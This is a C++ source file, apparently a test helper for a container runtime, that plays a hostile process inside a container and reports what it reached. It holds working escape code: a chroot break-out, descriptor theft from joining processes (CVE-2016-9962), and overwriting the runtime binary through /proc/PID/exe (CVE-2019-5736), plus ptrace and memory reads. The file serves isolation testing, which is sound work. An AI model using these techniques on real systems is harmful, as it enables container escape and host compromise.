// What a hostile container runs.
//
//   attacker break-out
//
// leaves its root by chroot(2), and prints what it finds there. Else it waits
// for processes that join it, stops each, and takes from it whatever the kernel
// gives. The tests read what it got from its report. Static, without anything
// of the project: it lives in the container's root.
//
//   attacker REPORT [stop]
//
// With `stop` it only stops them, for good. Works until SIGTERM; then it uses
// what it has kept, and writes REPORT: lines of a name and a number, and
// `reached WHAT DEV:INO` for the top of each directory that it got hold of.

#include <algorithm>
#include <array>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <dirent.h>
#include <fcntl.h>
#include <map>
#include <set>
#include <string>
#include <string_view>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>
#include <vector>

namespace {

volatile std::sig_atomic_t stopping = 0;

/// What one file is, whatever its name.
using identity = std::pair<dev_t, ino_t>;

identity identity_of(const struct stat& x) {
  return {x.st_dev, x.st_ino};
}

struct findings {
  std::map<std::string, long> counts;
  std::set<std::pair<std::string, identity>> reached;
  std::vector<int> kept; ///< Read-only descriptors of foreign programs.
};

findings found;
std::set<identity> own_programs;

std::string of_process(pid_t pid, const char* name) {
  return "/proc/" + std::to_string(pid) + "/" + name;
}

/// Whether it is a program of the container by now, which anybody in here may
/// look at.
bool is_our_own(pid_t pid) {
  struct stat info {};
  return ::stat(of_process(pid, "exe").c_str(), &info) == 0
         && own_programs.contains(identity_of(info));
}

/// Whether it is not that yet, and not dead either.
bool is_joining(pid_t pid) {
  struct stat info {};
  if (::stat(of_process(pid, "exe").c_str(), &info) != 0)
    return errno == EACCES;
  return !own_programs.contains(identity_of(info));
}

/// A directory leads wherever `..` does: to the root of whose it is.
void follow(const std::string& what, int fd) {
  struct stat info {};
  if (::fstat(fd, &info) != 0 || !S_ISDIR(info.st_mode))
    return;
  auto at = ::openat(fd, ".", O_PATH | O_DIRECTORY | O_CLOEXEC);
  for (auto last = identity{}; at >= 0 && last != identity_of(info);) {
    last = identity_of(info);
    const auto up = ::openat(at, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
    ::close(at);
    at = up;
    if (at >= 0 && ::fstat(at, &info) != 0)
      break;
  }
  if (at >= 0)
    ::close(at);
  found.reached.emplace(what, identity_of(info));
}

void open_link(pid_t pid, const char* name) {
  const auto fd = ::open(of_process(pid, name).c_str(),
                         O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (fd < 0)
    return;
  follow(name, fd);
  ::close(fd);
  found.counts[std::string{name} + "_opened"] += is_joining(pid) ? 1 : 0;
}

/// CVE-2016-9962: what the process holds, by name and by pidfd_getfd(2).
void take_descriptors(pid_t pid) {
  const auto pidfd = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
  for (auto n = 0; n < 32; ++n) {
    const auto name = "fd/" + std::to_string(n);
    const auto path = of_process(pid, name.c_str());
    const auto opened = ::open(path.c_str(), O_PATH | O_CLOEXEC);
    const auto stolen = static_cast<int>(
      ::syscall(SYS_pidfd_getfd, pidfd, n, 0));
    const auto joining = is_joining(pid);
    for (const auto fd : {opened, stolen}) {
      if (fd < 0)
        continue;
      follow("fd", fd);
      found.counts["fd_taken"] += joining ? 1 : 0;
      ::close(fd);
    }
  }
  ::close(pidfd);
}

/// CVE-2019-5736: now, and by a descriptor that is kept until nobody executes
/// the file any more.
void open_program(pid_t pid) {
  const auto path = of_process(pid, "exe");
  for (const auto flags : {O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC}) {
    const auto fd = ::open(path.c_str(), flags | O_CLOEXEC);
    if (fd < 0)
      continue;
    struct stat info {};
    if (::fstat(fd, &info) == 0 && !own_programs.contains(identity_of(info)))
      ++found.counts["program_writable"];
    ::close(fd);
  }
  const auto fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
  struct stat info {};
  if (fd < 0 || ::fstat(fd, &info) != 0)
    return;
  if (own_programs.contains(identity_of(info)) || found.kept.size() > 200) {
    ::close(fd);
    return;
  }
  ++found.counts["program_opened"];
  found.reached.emplace("exe", identity_of(info));
  found.kept.push_back(fd);
}

void trace(pid_t pid) {
  char byte = 0;
  // Whether anything is there does not matter.
  iovec local{&byte, 1};
  iovec remote{reinterpret_cast<void*>(0x400000), 1};
  if (::process_vm_readv(pid, &local, 1, &remote, 1, 0) == 1
      || errno == EFAULT) // the address was wrong, the right was there
    found.counts["memory_read"] += is_joining(pid) ? 1 : 0;
  for (const auto how : {PTRACE_SEIZE, PTRACE_ATTACH}) {
    if (::ptrace(how, pid, nullptr, nullptr) != 0)
      continue;
    found.counts["traced"] += is_joining(pid) ? 1 : 0;
    if (how == PTRACE_SEIZE)
      ::ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
    auto status = 0;
    ::waitpid(pid, &status, __WALL);
    ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
  }
}

void attack(pid_t pid) {
  ++found.counts["looks"];
  if (is_joining(pid))
    ++found.counts["looks_while_joining"];
  open_link(pid, "root");
  open_link(pid, "cwd");
  take_descriptors(pid);
  open_program(pid);
  trace(pid);
}

/// Looks again and again on its way to its program, which it gets longer and
/// longer stretches for: on an idle machine, too, it is stopped in all parts of
/// its way and comes to its end.
void attack_often(pid_t pid) {
  constexpr auto rounds = 400;
  ::prctl(PR_SET_TIMERSLACK, 1UL);
  for (auto i = 0; i < rounds && !stopping; ++i) {
    attack(pid);
    if (::kill(pid, SIGCONT) != 0 || is_our_own(pid))
      break;
    const auto stretch = timespec{0, i * 1000L};
    ::nanosleep(&stretch, nullptr);
    ::kill(pid, SIGSTOP);
  }
  ::kill(pid, SIGCONT);
}

/// A signal takes effect when its target comes back from the kernel.
void wait_until_stopped(pid_t pid) {
  for (auto state = '?'; state != 'T' && !stopping;) {
    auto* const in = std::fopen(of_process(pid, "stat").c_str(), "re");
    if (in == nullptr)
      return;
    const auto read = std::fscanf(in, "%*d (%*[^)]) %c", &state);
    std::fclose(in);
    if (read != 1 || state == 'Z')
      return;
  }
}

void leave_stopped(pid_t pid) {
  wait_until_stopped(pid);
  if (is_our_own(pid))
    ::kill(pid, SIGCONT);
  else
    ++found.counts["left_stopped"];
}

/// Stops whatever has the next pids, at whatever it was doing.
void attack_next(pid_t& last, void (*how)(pid_t)) {
  constexpr auto missed = 16; // in a row, at most
  for (auto pid = last + 1; pid <= last + 2 * missed; ++pid) {
    if (::kill(pid, SIGSTOP) != 0)
      continue;
    ++found.counts["seen"];
    last = pid;
    how(pid);
  }
}

/// Who executes the files that were kept has ended, most likely.
void use_kept() {
  for (const auto fd : found.kept) {
    const auto path = "/proc/self/fd/" + std::to_string(fd);
    const auto again = ::open(path.c_str(), O_WRONLY | O_CLOEXEC);
    if (again < 0)
      continue;
    ++found.counts["program_reopened"];
    constexpr std::array evil{'#', '!', '/', 'e', 'v', 'i', 'l', '\n'};
    if (::pwrite(again, evil.data(), evil.size(), 0) > 0
        || ::ftruncate(again, 0) == 0)
      ++found.counts["program_written"];
    ::close(again);
  }
}

void write_report(const std::string& path) {
  // Whole or not at all: the test waits for the name.
  auto* const out = std::fopen((path + ".new").c_str(), "we");
  if (out == nullptr)
    std::exit(3);
  for (const auto& [name, count] : found.counts)
    std::fprintf(out, "%s %ld\n", name.c_str(), count);
  for (const auto& [what, file] : found.reached)
    std::fprintf(out, "reached %s %lu:%lu\n", what.c_str(),
                 static_cast<unsigned long>(file.first),
                 static_cast<unsigned long>(file.second));
  std::fclose(out);
  std::rename((path + ".new").c_str(), path.c_str());
}

void list_here() {
  struct stat info {};
  if (::stat(".", &info) == 0)
    std::printf("at %lu:%lu\n", static_cast<unsigned long>(info.st_dev),
                static_cast<unsigned long>(info.st_ino));
  auto* const here = ::opendir(".");
  for (auto* each = here != nullptr ? ::readdir(here) : nullptr;
       each != nullptr; each = ::readdir(here))
    std::printf("found %s\n", each->d_name);
}

/// Out of a root that is only chroot(2)'s, see there, and down through what the
/// rights allow to take away.
int break_out() {
  constexpr auto deep = 64;
  constexpr auto mounts = 8;
  ::mkdir("/tmp/deeper", 0755);
  if (::chroot("/tmp/deeper") != 0)
    return 1;
  for (auto i = 0; i < deep; ++i)
    (void)!::chdir("..");
  (void)!::chroot(".");
  list_here();
  for (auto i = 0; i < mounts && ::umount2("/", MNT_DETACH) == 0; ++i) {
    (void)!::chdir("/");
    list_here();
  }
  return 0;
}

} // namespace

int main(int argc, char** argv) {
  if (argc < 2)
    return 2;
  if (std::string_view{argv[1]} == "break-out")
    return break_out();
  std::signal(SIGTERM, [](int) { stopping = 1; });
  std::signal(SIGCHLD, SIG_IGN);
  for (const auto* each : {"/proc/self/exe", "/bin/busybox"}) {
    struct stat info {};
    if (::stat(each, &info) == 0)
      own_programs.insert(identity_of(info));
  }
  std::fclose(std::fopen((std::string{argv[1]} + ".ready").c_str(), "we"));
  auto* const how = argc > 2 ? leave_stopped : attack_often;
  for (auto last = ::getpid(); !stopping;)
    attack_next(last, how);
  use_kept();
  write_report(argv[1]);
  return 0;
}
